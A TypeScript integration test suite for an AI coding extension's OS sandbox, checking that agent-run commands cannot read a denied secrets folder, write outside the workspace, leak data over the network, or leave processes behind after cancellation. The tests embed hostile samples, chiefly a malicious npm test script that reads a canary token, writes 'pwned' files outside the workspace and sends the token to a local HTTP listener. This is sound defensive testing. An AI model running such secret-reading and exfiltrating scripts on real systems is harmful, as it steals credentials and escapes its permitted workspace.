// Issue 19 in a real extension host: the agent's commands run in the OS sandbox through the
// integrated terminal. A folder listed in fathom.sandbox.denyRead is unreadable, nothing is
// written outside the workspace, and the model is told it ran sandboxed; a hostile `npm test`
// run unasked (fathom.sandbox.autoApprove) leaks nothing, while with fathom.sandbox.enabled off
// the same write outside happens; Cancel leaves no process of the sandbox running.
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as http from "node:http";
import * as os from "node:os";
import * as path from "node:path";
import * as vscode from "vscode";
import type { FathomApi } from "../../../src/host/extension";
import type { ToolItem } from "../../../src/protocol";
import { sandboxUnavailable } from "../../../src/core/executor/sandbox";
import { taggedProcesses } from "../../../src/core/executor/sandboxLeftovers";
import { startScriptedModelServer, type ScriptedModelServer } from "../../support/scriptedModelServer";
import { until } from "./until";

suite("OS sandbox for commands", function () {
  this.timeout(60_000);
  let server: ScriptedModelServer;
  let fathom: FathomApi;
  const config = () => vscode.workspace.getConfiguration("fathom");
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "fathom-sbx-host-"));
  const secrets = path.join(scratch, "secrets");
  const outside = path.join(scratch, "outside.txt");

  suiteSetup(async function () {
    if (process.platform !== "linux" || sandboxUnavailable()) this.skip();
    fs.mkdirSync(secrets);
    fs.writeFileSync(path.join(secrets, "token"), "CANARY-HOST-71c2\n");
    server = await startScriptedModelServer([]);
    const ext = vscode.extensions.getExtension<FathomApi>("fathom-dev.fathom");
    assert.ok(ext);
    fathom = await ext.activate();
    await config().update("provider", "openai-compatible", vscode.ConfigurationTarget.Global);
    await config().update("baseUrl", server.baseUrlOpenAI, vscode.ConfigurationTarget.Global);
    await config().update("model", "scripted-model", vscode.ConfigurationTarget.Global);
    await config().update("sandbox.denyRead", [secrets], vscode.ConfigurationTarget.Global);
  });
  suiteTeardown(async () => {
    if (!fathom) return;
    for (const key of ["provider", "baseUrl", "model", "sandbox.denyRead", "sandbox.autoApprove", "sandbox.enabled"])
      await config().update(key, undefined, vscode.ConfigurationTarget.Global);
    await fathom.restartSession();
    await server.close();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  test("an approved command runs in the terminal inside the sandbox", async () => {
    await fathom.session.newTask();
    const command = `cat ${secrets}/token; echo escaped > ${outside}; echo inside > sandboxed-ok.txt; echo finished`;
    server.push({ toolCalls: [{ id: "x1", name: "execute", arguments: { command } }] }, { text: "Done." });
    await fathom.session.send("run it");
    await until("the approval", () => fathom.session.state.status === "awaiting_approval", 20_000);
    const card = fathom.session.state.items.find((i): i is ToolItem => i.kind === "tool" && i.toolName === "execute");
    assert.ok(card);
    fathom.session.approve(card.id);
    await fathom.session.whenIdle();
    const tool = (server.requests[1]!.body.messages as { role: string; content: string }[]).find(
      (m) => m.role === "tool",
    );
    const result = tool?.content ?? "";
    assert.match(result, /finished/);
    assert.match(result, /Ran in the OS sandbox/);
    assert.doesNotMatch(result, /CANARY-HOST/);
    assert.ok(!fs.existsSync(outside), "the command wrote outside the workspace");
    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    assert.equal(fs.readFileSync(path.join(root, "sandboxed-ok.txt"), "utf8"), "inside\n");
    fs.rmSync(path.join(root, "sandboxed-ok.txt"));
    const done = fathom.session.state.items.find((i): i is ToolItem => i.kind === "tool" && i.toolName === "execute");
    assert.match(done?.exec?.via ?? "", /in the OS sandbox/);
  });

  /** The tool result the model got for the task's first command. */
  const firstResult = (from: number) =>
    ((server.requests[from + 1]?.body.messages as { role: string; content: string }[] | undefined) ?? []).find(
      (m) => m.role === "tool",
    )?.content ?? "";

  test("a hostile npm test run unasked (fathom.sandbox.autoApprove) leaks nothing; with the sandbox off the write outside happens", async () => {
    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    const received: string[] = [];
    const listener = http.createServer((req, res) => (received.push(req.url ?? ""), res.end("ok")));
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const port = (listener.address() as { port: number }).port;
    const project = path.join(root, "hostile-project");
    const escaped = path.join(root, "..", `escaped-${path.basename(scratch)}.txt`);
    const script =
      `const fs=require('fs');let k='';try{k=fs.readFileSync(${JSON.stringify(path.join(secrets, "token"))},'utf8')}catch(e){};` +
      `for(const f of [${JSON.stringify(outside)},${JSON.stringify(escaped)}])try{fs.writeFileSync(f,'pwned '+k)}catch(e){};` +
      `require('http').get('http://127.0.0.1:${port}/leak?'+encodeURIComponent(k),()=>{}).on('error',()=>{});console.log('hostile test ran')`;
    fs.mkdirSync(project, { recursive: true });
    fs.writeFileSync(path.join(project, "hostile.js"), script);
    fs.writeFileSync(
      path.join(project, "package.json"),
      JSON.stringify({ name: "hostile", version: "1.0.0", scripts: { test: "node hostile.js" } }),
    );
    try {
      await config().update("sandbox.autoApprove", true, vscode.ConfigurationTarget.Global);
      await fathom.session.newTask();
      let from = server.requests.length;
      server.push(
        { toolCalls: [{ id: "h1", name: "execute", arguments: { command: "cd hostile-project && npm test" } }] },
        { text: "Tested." },
      );
      await fathom.session.send("run the tests");
      await fathom.session.whenIdle();
      assert.equal(
        fathom.session.state.items.some((i) => i.kind === "tool" && i.status === "awaiting_approval"),
        false,
      );
      let result = firstResult(from);
      assert.match(result, /hostile test ran/, "the sandboxed npm test did not run unasked");
      assert.match(result, /Ran in the OS sandbox/);
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(received, [], "a connection left the sandbox");
      assert.ok(!fs.existsSync(outside) && !fs.existsSync(escaped), "the hostile test wrote outside the workspace");

      // The proof that the sandbox stopped it: off, the same command (now asked) writes outside.
      await config().update("sandbox.enabled", false, vscode.ConfigurationTarget.Global);
      await fathom.session.newTask();
      from = server.requests.length;
      server.push(
        { toolCalls: [{ id: "h2", name: "execute", arguments: { command: "cd hostile-project && npm test" } }] },
        { text: "Tested." },
      );
      await fathom.session.send("run the tests again");
      await until(
        "the approval (no sandbox, so no sandboxed auto-approval)",
        () => fathom.session.state.status === "awaiting_approval",
        20_000,
      );
      const card = fathom.session.state.items.find(
        (i): i is ToolItem => i.kind === "tool" && i.status === "awaiting_approval",
      );
      fathom.session.approve(card!.id);
      await fathom.session.whenIdle();
      result = firstResult(from);
      assert.doesNotMatch(result, /Ran in the OS sandbox/);
      assert.match(fs.readFileSync(escaped, "utf8"), /pwned CANARY-HOST/);
    } finally {
      await config().update("sandbox.enabled", undefined, vscode.ConfigurationTarget.Global);
      await config().update("sandbox.autoApprove", undefined, vscode.ConfigurationTarget.Global);
      listener.close();
      fs.rmSync(project, { recursive: true, force: true });
      fs.rmSync(escaped, { force: true });
      fs.rmSync(outside, { force: true });
    }
  });

  test("Cancel during a sandboxed command in the terminal leaves no process of it running", async () => {
    const marker = `sleep 71.${process.pid}${Math.floor(Math.random() * 1e5)}`;
    await config().update("sandbox.autoApprove", true, vscode.ConfigurationTarget.Global);
    try {
      await fathom.session.newTask();
      server.push(
        { toolCalls: [{ id: "c1", name: "execute", arguments: { command: `sh -c '${marker}' & ${marker}` } }] },
        { text: "never" },
      );
      await fathom.session.send("wait a while");
      await until("the sandboxed command to run", () => taggedProcesses(marker).length > 0, 20_000);
      fathom.session.cancel();
      await fathom.session.whenIdle();
      await until("every process of the command to go", () => taggedProcesses(marker).length === 0, 10_000);
    } finally {
      await config().update("sandbox.autoApprove", undefined, vscode.ConfigurationTarget.Global);
    }
  });
});
